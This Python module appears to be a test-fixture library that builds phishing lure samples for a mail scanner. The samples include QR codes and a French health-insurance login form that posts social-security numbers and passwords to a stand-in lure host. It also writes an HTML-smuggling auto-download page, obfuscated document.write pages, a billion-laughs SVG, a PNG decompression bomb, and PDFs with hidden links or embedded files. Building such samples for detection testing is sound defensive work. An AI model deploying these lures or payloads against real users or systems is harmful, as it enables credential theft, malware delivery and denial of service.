"""Real files of every kind a lure hides in, and their honest twins, made from scratch: nothing here comes from a mail.

Each function gives the bytes of one file. `letter` puts files into a message as a mail program would.
"""

import base64
import io
import struct
import zlib
from collections.abc import Mapping, Sequence
from email.message import EmailMessage

import zxingcpp
from PIL import Image, ImageDraw

LURE = "https://ameli-fr.compte.example/vitale"


# -- pictures -----------------------------------------------------------------------------------------------------


def code_picture(text: str, *, scale: int = 4, kind: str = "QRCode") -> Image.Image:
    """A grey picture of one code."""
    code = zxingcpp.create_barcode(text, zxingcpp.barcode_format_from_str(kind))
    drawn = zxingcpp.write_barcode_to_image(code, scale=scale)
    return Image.frombuffer("L", (drawn.shape[1], drawn.shape[0]), memoryview(drawn).tobytes())  # type: ignore[arg-type]


def saved(image: Image.Image, form: str = "PNG", **options: object) -> bytes:
    """A picture as a file."""
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def qr(text: str = LURE, form: str = "PNG", *, scale: int = 4) -> bytes:
    """A picture file of one QR code."""
    return saved(code_picture(text, scale=scale), form)


def poster(*texts: str, size: tuple[int, int] = (1600, 2200), form: str = "JPEG") -> bytes:
    """A page photographed: several codes, some lines of a drawing, colours."""
    page = Image.new("RGB", size, (250, 247, 240))
    draw = ImageDraw.Draw(page)
    for number in range(20):
        draw.line((80, 900 + number * 40, size[0] - 80, 905 + number * 40), fill=(70, 70, 90), width=4)
    for number, text in enumerate(texts):
        page.paste(code_picture(text, scale=8).convert("RGB"), (100 + number * 600, 150))
    return saved(page, form, quality=80)


def photograph(width: int = 1200, height: int = 900) -> bytes:
    """A picture without any code."""
    return saved(Image.linear_gradient("L").resize((width, height)).convert("RGB"), "JPEG", quality=70)


def huge_png(side: int = 13_000) -> bytes:
    """A PNG of some 20 KB that unfolds to `side` x `side` pixels."""
    row = zlib.compressobj(9)
    packed = b"".join(row.compress(b"\0" + b"\0" * ((side + 7) // 8)) for _ in range(side)) + row.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks
    )


# -- PDF ----------------------------------------------------------------------------------------------------------


def pdf(
    text: str = "",
    *,
    links: Sequence[str] = (),
    catalog: str = "",
    objects: Sequence[bytes] = (),
    picture: Image.Image | None = None,
    drawn: Image.Image | None = None,
    pages: int = 1,
    packed: bool = False,
) -> bytes:
    """A PDF. `links` lie over the text of the first page; `catalog` and `objects` (numbered from 20) are put in as
    written; `picture` is embedded as an image, `drawn` as one rectangle a module; `packed` hides the link annotations
    in an object stream."""
    content = (
        "BT /F1 11 Tf 50 780 Td 14 TL\n"
        + "\n".join(f"({_escaped(line)}) Tj T*" for line in (text.split("\n") if text else ()))
        + "\nET\n"
    )
    resources = "/Font<</F1 4 0 R>>"
    body: dict[int, bytes] = {4: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"}
    if picture is not None:
        pixels = zlib.compress(picture.tobytes())
        body[5] = _stream(
            f"/Type/XObject/Subtype/Image/Width {picture.width}/Height {picture.height}/ColorSpace/DeviceGray"
            "/BitsPerComponent 8/Filter/FlateDecode", pixels,
        )  # fmt: skip
        resources += "/XObject<</Im1 5 0 R>>"
        content += "q 160 0 0 160 200 400 cm /Im1 Do Q\n"
    if drawn is not None:
        content += "0 g\n" + "".join(
            f"{100 + x * 4} {400 - y * 4} 4 4 re f\n"
            for y in range(drawn.height)
            for x in range(drawn.width)
            if drawn.getpixel((x, y)) == 0
        )
    body[6] = _stream("/Filter/FlateDecode", zlib.compress(content.encode("cp1252", "replace")))
    annotations = []
    for number, link in enumerate(links):
        annotations.append(f"{200 + number} 0 R")
        body[200 + number] = (
            f"<</Type/Annot/Subtype/Link/Rect[50 {770 - 14 * number} 545 {790 - 14 * number}]"
            f"/A<</S/URI/URI({_escaped(link)})>>>>"
        ).encode("latin-1", "replace")
    kids = " ".join(f"{10 + number} 0 R" for number in range(min(pages, 9)))
    for number in range(min(pages, 9)):
        body[10 + number] = (
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<{resources}>>/Contents 6 0 R"
            f"{'/Annots[' + ' '.join(annotations) + ']' if number == 0 and annotations else ''}>>"
        ).encode()
    body[1] = f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode("latin-1")
    body[2] = f"<</Type/Pages/Kids[{kids}]/Count {min(pages, 9)}>>".encode()
    for number, item in enumerate(objects):
        body[20 + number] = item
    return _written(body, {number for number in body if number >= 200} if packed else set())


def _written(body: Mapping[int, bytes], packed: set[int]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.6\n%\xe2\xe3\xcf\xd3\n")
    places: dict[int, tuple[int, int, int]] = {}
    for number, item in sorted(body.items()):
        if number not in packed:
            places[number] = (1, out.tell(), 0)
            out.write(b"%d 0 obj\n%s\nendobj\n" % (number, item))
    if packed:
        index, joined = [], b""
        for place, number in enumerate(sorted(packed)):
            index.append(b"%d %d" % (number, len(joined)))
            joined += body[number] + b" "
            places[number] = (2, 900, place)
        head = b" ".join(index) + b" "
        places[900] = (1, out.tell(), 0)
        content = zlib.compress(head + joined)
        fields = f"/Type/ObjStm/N {len(packed)}/First {len(head)}/Filter/FlateDecode"
        out.write(b"900 0 obj\n%s\nendobj\n" % _stream(fields, content))
    places[901] = (1, out.tell(), 0)
    start = out.tell()
    rows = b"".join(struct.pack(">BIH", *places.get(number, (0, 0, 0))) for number in range(902))
    fields = "/Type/XRef/Size 902/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    out.write(b"901 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (_stream(fields, zlib.compress(rows)), start))
    return out.getvalue()


def _stream(fields: str, content: bytes) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (fields.encode(), len(content), content)


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_with_file(name: str, content: bytes) -> bytes:
    """A PDF that carries a file."""
    return pdf(
        "Voir la piece jointe.",
        catalog=f"/Names<</EmbeddedFiles<</Names[({name}) 20 0 R]>>>>",
        objects=(
            f"<</Type/Filespec/F({name})/UF({name})/EF<</F 21 0 R>>>>".encode(),
            _stream("/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(content)),
        ),
    )


def encrypted_pdf(source: bytes, user_password: str) -> bytes:
    """The same, encrypted; with an empty password every reader opens it."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(source)))
    writer.encrypt(user_password, "owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# -- markup -------------------------------------------------------------------------------------------------------


def form_page(action: str = LURE, host: str = "l'Assurance Maladie") -> bytes:
    """A page that asks for a password."""
    return (
        f"<!doctype html><html><head><title>Connexion</title></head><body><h1>{host}</h1>"
        f"<p>Votre session a expiré, identifiez-vous.</p><form method=post action='{action}'>"
        "<input name=nir placeholder='Numéro de sécurité sociale'><input type='password' name=mdp></form></body></html>"
    ).encode()


def smuggling_page(inner: bytes, name: str = "facture.zip") -> bytes:
    """A page whose script builds a file and saves it."""
    packed = base64.b64encode(inner).decode()
    return (
        "<html><body><p>Votre document est en cours de téléchargement</p><script>"
        f"var d='{packed}';var b=atob(d);var u=new Uint8Array(b.length);"
        "for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);"
        "var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([u]));"
        f"l.download='{name}';l.click();</script></body></html>"
    ).encode()


def written_page(inner: bytes, how: str = "base64") -> bytes:
    """A page whose script writes another page, encoded."""
    if how == "base64":
        code = f"document.write(atob('{base64.b64encode(inner).decode()}'))"
    elif how == "percent":
        code = "document.write(unescape('" + "".join(f"%{byte:02x}" for byte in inner) + "'))"
    elif how == "codes":
        code = "document.write(String.fromCharCode(" + ",".join(str(byte) for byte in inner) + "))"
    else:
        code = "document.write('" + "".join(f"\\x{byte:02x}" for byte in inner) + "')"
    return f"<html><body><script>{code}</script></body></html>".encode()


def svg(script: str = "", link: str = "", inner: str = "") -> bytes:
    """A drawing."""
    anchor = f"<a xlink:href='{link}'><text>Ouvrir le document</text></a>" if link else ""
    code = f"<script><![CDATA[{script}]]></script>" if script else ""
    return (
        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
        f"<rect width='10' height='10'/>{anchor}{inner}{code}</svg>"
    ).encode()


def laughs() -> bytes:
    """Billion laughs in an SVG."""
    rows = "".join(
        f"<!ENTITY l{n} '{'&l' + str(n - 1) + ';' if n else 'ha'}{('&l' + str(n - 1) + ';') * 9 if n else ''}'>"
        for n in range(10)
    )
    return f"<?xml version='1.0'?><!DOCTYPE svg [{rows}]><svg xmlns='http://www.w3.org/2000/svg'><text>&l9;</text></svg>".encode()


def invitation(
    *,
    organiser: str = "Assurance Maladie",
    description: str = "Mettez à jour votre carte",
    link: str = LURE,
    attach: tuple[str, bytes] | None = None,
    events: int = 1,
) -> bytes:
    """A calendar request."""
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "METHOD:REQUEST"]
    for number in range(events):
        lines += [
            "BEGIN:VEVENT", f"UID:{number}@agenda.example", "DTSTART:20261126T090000Z",
            f'ORGANIZER;CN="{organiser}":mailto:agenda@agenda.example', "SUMMARY:Rendez-vous",
            f"DESCRIPTION:{description}\\n{link}", "LOCATION:" + link,
        ]  # fmt: skip
        if attach is not None:
            packed = base64.b64encode(attach[1]).decode()
            lines.append(f"ATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME={attach[0]}:{packed}")
        lines.append("END:VEVENT")
    return "\r\n".join([*lines, "END:VCALENDAR", ""]).encode()


def letter(
    *files: tuple[str, str, bytes],
    text: str = "Bonjour, veuillez trouver ci-joint le document.",
    html: str = "",
    author: str = "Claire <claire@sender.example>",
    subject: str = "Document",
) -> bytes:
    """A message that carries (name, content type, bytes)."""
    message = EmailMessage()
    message["From"] = author
    message["To"] = "accueil@mutuelle.example"
    message["Subject"] = subject
    message["Message-ID"] = "<1@sender.example>"
    message["Date"] = "Wed, 25 Nov 2026 09:00:00 +0100"
    message.set_content(text)
    if html:
        message.add_alternative(html, subtype="html")
    for name, kind, content in files:
        major, _, minor = kind.partition("/")
        message.add_attachment(content, maintype=major, subtype=minor, filename=name)
    return message.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
